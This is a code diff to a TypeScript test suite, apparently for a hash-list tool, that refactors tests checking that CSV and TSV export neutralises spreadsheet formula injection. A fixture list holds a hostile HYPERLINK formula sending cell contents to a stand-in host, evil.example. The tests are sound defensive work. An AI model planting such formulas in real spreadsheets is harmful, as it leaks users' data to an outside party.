@@ -224,6 +224,9 @@ describe('StopNCII FetchHashes JSON', () => {
   });
 });
 
+/** The note of a hash record (what went wrong otherwise). */
+const noteOf = (r: ImportRecord) => (r.kind === 'hash' ? r.hash.note : JSON.stringify(r));
+
 describe('spreadsheet-safe CSV and TSV (issue 15, finding 5)', () => {
   const HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -274,14 +277,12 @@ describe('spreadsheet-safe CSV and TSV (issue 15, finding 5)', () => {
   test('export → import round-trips every text exactly (CSV), and as far as TSV can carry it', async () => {
     const lines = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), ','));
     const records = await parse(delimitedHeader(',') + lines.join(''), 'csv');
-    expect(records.map((r) => (r.kind === 'hash' ? r.hash.note : r.message))).toEqual(HOSTILE);
-    expect(records.map((r) => (r.kind === 'hash' ? r.hash.provenance.source : ''))).toEqual(HOSTILE);
+    expect(records.map(noteOf)).toEqual(HOSTILE);
+    expect(records.map((r) => (r.kind === 'hash' ? r.hash.provenance?.source : ''))).toEqual(HOSTILE);
     // TSV has no quoting: a tab or line break in a text becomes a space, the rest round-trips.
     const tsv = HOSTILE.map((text, i) => delimitedLine(entry(i + 1, text), '\t'));
     const fromTsv = await parse(delimitedHeader('\t') + tsv.join(''), 'tsv');
-    expect(fromTsv.map((r) => (r.kind === 'hash' ? r.hash.note : r.message))).toEqual(
-      HOSTILE.map((text) => text.replace(/[\t\r\n]/g, ' ')),
-    );
+    expect(fromTsv.map(noteOf)).toEqual(HOSTILE.map((text) => text.replace(/[\t\r\n]/g, ' ')));
   });
 
   test('import keeps leading whitespace of text as data: "\\t=1+1" is not read as "=1+1"', async () => {
@@ -289,10 +290,12 @@ describe('spreadsheet-safe CSV and TSV (issue 15, finding 5)', () => {
       `signal_type,value,note\npdq,${PDQ},"\t=1+1"\nmd5, ${MD5} ,  spaced  \n`,
       'csv',
     );
-    expect(records.map((r) => (r.kind === 'hash' ? [r.hash.value, r.hash.note] : r.message))).toEqual([
-      [PDQ, '\t=1+1'],
-      [MD5, '  spaced  '], // typed columns are still trimmed
-    ]);
+    expect(records.map((r) => (r.kind === 'hash' ? [r.hash.value, r.hash.note] : JSON.stringify(r)))).toEqual(
+      [
+        [PDQ, '\t=1+1'],
+        [MD5, '  spaced  '], // typed columns are still trimmed
+      ],
+    );
   });
 
   test('the escape is undone only where the exporter added it', () => {
